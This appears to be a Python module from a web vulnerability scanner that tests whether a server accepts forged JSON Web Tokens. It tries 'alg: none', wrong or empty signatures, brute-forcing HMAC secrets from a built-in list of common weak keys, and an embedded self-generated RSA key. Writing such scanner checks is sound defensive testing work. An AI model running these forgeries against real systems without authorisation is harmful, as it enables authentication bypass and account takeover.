"""Oracle `jwt`: a token that nobody with the key has signed is accepted.

The forged token says just what the recorded one says. A token with a wrong signature must be refused, unless
that is what is tried; without any token the request must be refused too.
"""

import base64
import hashlib
import hmac
import json
import re
from collections.abc import Iterator
from typing import Any

from fastci import results
from fastci.node.dsl import Attack
from fastci.node.engine.confirm import Probe
from fastci.node.engine.likeness import Likeness
from fastci.node.message import Request

_TOKEN = re.compile(rb"eyJ[\w-]+\.eyJ[\w-]+\.[\w-]*")
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_WEAK_KEYS = (
    "secret", "password", "random", "key", "jwt", "token", "test", "admin", "changeme", "changeit",
    "default", "mysecret", "my-secret", "my_secret", "secretkey", "secret-key", "secret_key",
    "supersecret", "super-secret", "super_secret", "jwtsecret", "jwt-secret", "jwt_secret", "jwtkey",
    "your-256-bit-secret", "your_jwt_secret", "your-secret-key", "your_secret_key", "shhhhh", "shhh",
    "private", "privatekey", "signature", "signingkey", "auth", "demo", "example", "dev", "development",
    "production", "prod", "staging", "local", "app", "api", "123456", "12345678", "123456789",
    "1234567890", "1234", "12345", "qwerty", "letmein", "welcome", "pass", "p@ssw0rd", "passw0rd",
    "root", "toor", "null", "none", "undefined", "string", "0", "1", "a", "abc", "abc123", "foo", "bar",
    "foobar", "node", "express", "flask", "django", "spring", "laravel", "rails", "hello", "world",
    "crypto", "hmac", "sha256", "hs256", "xxx", "verysecret", "topsecret", "secret123", "secret1",
    "s3cr3t", "keyboard cat", "keyboardcat", "victory", "ninja", "monkey", "dragon", "master", "",
)  # fmt: skip
"""Secrets that examples, tutorials and defaults are made with. Tried without any request."""

Forged = tuple[str, bytes]


async def decide_jwt(probe: Probe, attack: Attack) -> results.Evidence | None:
    """Forge the request's token in each of the extension's ways; the evidence of the first that is taken."""
    request = probe.channel.refreshed(attack.request)
    token = _token_in(request)
    if token is None:
        return None
    control = await probe.channel.send(request)
    likeness = Likeness(probe.control.response, control.response)
    if not likeness.tells:
        return None
    bare = await probe.channel.send(_with(request, token, b"x"))
    if not likeness.refused(bare.response):
        return None
    for way in probe.extension.oracle_options["ways"]:
        for shown, forged in _WAYS[way](token):
            changed = _with(request, token, forged)
            first = await probe.channel.send(changed)
            if not likeness.same(first.response):
                continue
            second = await probe.channel.send(changed)
            still = await probe.channel.send(_with(request, token, b"x"))
            if likeness.same(second.response) and likeness.refused(still.response):
                return results.Evidence(
                    payload=forged.decode("ascii"),
                    matched=f"a token that nobody signed is accepted: {shown}",
                    attack=first.exchange(),
                    confirmation=second.exchange(),
                    control=still.exchange(),
                    notes=["the control carries a word in place of the token and is refused"],
                )
    return None


def _token_in(request: Request) -> bytes | None:
    places = [request.target, *(field.value for field in request.fields), request.body[: 64 << 10]]
    for place in places:
        for match in _TOKEN.finditer(place):
            if _parts(match[0]) is not None:
                return match[0]
    return None


def _with(request: Request, token: bytes, other: bytes) -> Request:
    if token in request.target:
        request = request.with_target(request.target.replace(token, other))
    for index, field in enumerate(request.fields):
        if token in field.value:
            request = request.with_field(index, field.value.replace(token, other))
    return request.with_body(request.body.replace(token, other)) if token in request.body else request


def _parts(token: bytes) -> tuple[dict[str, Any], bytes, bytes] | None:
    """Header, payload as written, and signature; None where that is no token."""
    head, payload, signature = token.split(b".")
    try:
        header = json.loads(_decoded(head))
        json.loads(_decoded(payload))
    except ValueError:
        return None
    return (header, payload, signature) if isinstance(header, dict) else None


def _none(token: bytes) -> Iterator[Forged]:
    header, payload, _ = _parts(token) or ({}, b"", b"")
    for word in ("none", "None", "NONE"):
        yield f"its algorithm is {word}", _written({**header, "alg": word}) + b"." + payload + b"."


def _unsigned(token: bytes) -> Iterator[Forged]:
    head, payload, signature = token.split(b".")
    yield "its signature is wrong", b".".join((head, payload, signature[::-1] if signature else b"AAAA"))
    yield "its signature is empty", head + b"." + payload + b"."


def _weak_key(token: bytes) -> Iterator[Forged]:
    header, payload, signature = _parts(token) or ({}, b"", b"")
    made = _HASHES.get(str(header.get("alg")))
    if made is None:
        return
    signed = token.rpartition(b".")[0]
    for key in _WEAK_KEYS:
        if _encoded(hmac.new(key.encode(), signed, made).digest()) == signature:
            # Other bytes, same meaning: a target that remembers the tokens it gave out does not know these.
            again = _written({**header, "typ": "JWT", "zip": None}) + b"." + payload
            own = again + b"." + _encoded(hmac.new(key.encode(), again, made).digest())
            yield f"it is signed with the key {key!r}, found by trying common ones", own
            return


def _embedded_key(token: bytes) -> Iterator[Forged]:
    header, payload, _ = _parts(token) or ({}, b"", b"")
    if not str(header.get("alg")).startswith("RS"):
        return
    # Few runs meet a token: the others do without the library.
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding, rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    numbers = key.public_key().public_numbers()
    jwk = {"kty": "RSA", "n": _encoded(_big(numbers.n)).decode(), "e": _encoded(_big(numbers.e)).decode()}
    signed = _written({**header, "alg": "RS256", "jwk": jwk}) + b"." + payload
    signature = key.sign(signed, padding.PKCS1v15(), hashes.SHA256())
    yield "it is signed with a key of its own, which it carries", signed + b"." + _encoded(signature)


_WAYS = {"none": _none, "unsigned": _unsigned, "weak-key": _weak_key, "embedded-key": _embedded_key}


def _written(header: dict[str, Any]) -> bytes:
    return _encoded(
        json.dumps({k: v for k, v in header.items() if v is not None}, separators=(", ", ":")).encode()
    )


def _encoded(data: bytes) -> bytes:
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def _decoded(data: bytes) -> bytes:
    return base64.urlsafe_b64decode(data + b"=" * (-len(data) % 4))


def _big(number: int) -> bytes:
    return number.to_bytes((number.bit_length() + 7) // 8)
